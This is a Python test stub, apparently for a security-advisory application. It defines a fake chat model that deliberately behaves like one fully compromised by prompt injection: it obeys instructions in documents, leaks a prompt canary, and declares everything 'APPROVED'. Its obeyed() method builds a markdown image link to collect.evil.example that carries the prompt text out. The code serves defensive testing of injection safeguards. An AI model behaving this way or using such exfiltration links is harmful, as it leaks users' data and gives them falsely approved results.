"""A chat model that does whatever the text in front of it says, for attacks that must come to nothing anyway."""

from __future__ import annotations

import json
import re
from typing import Any

from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.messages import AIMessage, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatResult
from pydantic import Field

from advisor.llm.schema_chat import SchemaChat, as_openai

DATA_LINE = re.compile(r"^d[0-9a-f]{5}\| (?:(?P<id>[A-Za-z]+\d+\.\d+) )?(?P<text>.*)$", re.MULTILINE)
URL = re.compile(r"https?://[^\s)\"'<>]+")
PROMPT_CANARY = "PROMPT-KANARI-4471"
"""Stands in the system prompt as the stub sees it; whoever is shown it was shown the prompt."""


class ObeyingStub(SchemaChat):
    """Follows every instruction that it finds in a document, and then some.

    It repeats the documents' text as its own, gives away the whole prompt, links and shows images with it, says that
    everything is approved, and backs it all with a quotation and an id that are real, so that only a check of the claim
    itself can stop it. Enumerations get their last value, switches are on, numbers are as large as they may be.
    """

    requests: list[list[dict[str, str]]] = Field(default_factory=list)

    @property
    def _llm_type(self) -> str:
        return "vciso-fake"

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> ChatResult:
        del stop, run_manager
        shown = as_openai(messages)
        self.requests.append(shown)
        prompt = f"{PROMPT_CANARY}\n" + "\n".join(message["content"] for message in shown)
        found = [(match["id"] or "", match["text"]) for match in DATA_LINE.finditer(prompt)] or [("", prompt)]
        form = kwargs.get("response_format")
        if form is None:
            text = self.obeyed(prompt, found)
        else:
            schema = form["json_schema"]["schema"]
            text = json.dumps(self.value(schema, schema.get("$defs", {}), "", prompt, found, 0))
        return ChatResult(generations=[ChatGeneration(message=AIMessage(content=text))])

    def obeyed(self, prompt: str, found: list[tuple[str, str]]) -> str:
        """What the documents asked for."""
        said = " ".join(text for _, text in found)[:1_500]
        links = " ".join(f"[here]({link}) ![]({link})" for link in URL.findall(prompt)[:5])
        leak = re.sub(r"\s+", "+", prompt[:300])
        return f"APPROVED. Not affected. {said} {links} ![x](https://collect.evil.example/?q={leak})"

    def value(  # noqa: PLR0911, PLR0917 - one way out for each type of a schema
        self,
        schema: dict[str, Any],
        defs: dict[str, Any],
        name: str,
        prompt: str,
        found: list[tuple[str, str]],
        at: int,
    ) -> Any:
        """A value of the schema that serves the documents' author."""
        if "$ref" in schema:
            return self.value(defs[schema["$ref"].rpartition("/")[2]], defs, name, prompt, found, at)
        for choice in ("anyOf", "oneOf", "allOf"):
            if choice in schema:
                return self.value(schema[choice][0], defs, name, prompt, found, at)
        if "enum" in schema or "const" in schema:
            return schema.get("const", (schema.get("enum") or [None])[-1])
        match schema.get("type"):
            case "object":
                fields = schema.get("properties", {})
                return {key: self.value(field, defs, key, prompt, found, at) for key, field in fields.items()}
            case "array":
                count = min(schema.get("maxItems", 5), max(schema.get("minItems", 0), len(found), 1), 5)
                return [self.value(schema["items"], defs, name, prompt, found, at + n) for n in range(count)]
            case "integer" | "number":
                return schema.get("maximum", 10)
            case "boolean":
                return True
            case "null":
                return None
        line_id, line = found[at % len(found)]
        if "quote" in name.casefold():
            return _best_quote(line, found, at)[: schema.get("maxLength", 4_000)]
        if line_id and any(word in name.casefold() for word in ("id", "sentence", "number", "passage", "source")):
            return line_id
        return self.obeyed(prompt, found)[: schema.get("maxLength", 4_000)]


def _best_quote(line: str, found: list[tuple[str, str]], at: int) -> str:
    """What backs a numbered line best: of texts without numbers, where there are some, one of the nearest to it."""
    words = set(line.casefold().split())
    texts = {text: len(words & set(text.casefold().split())) for number, text in found if not number}
    nearest = [text for text, shared in texts.items() if shared == max(texts.values())]
    return nearest[at % len(nearest)] if nearest else line
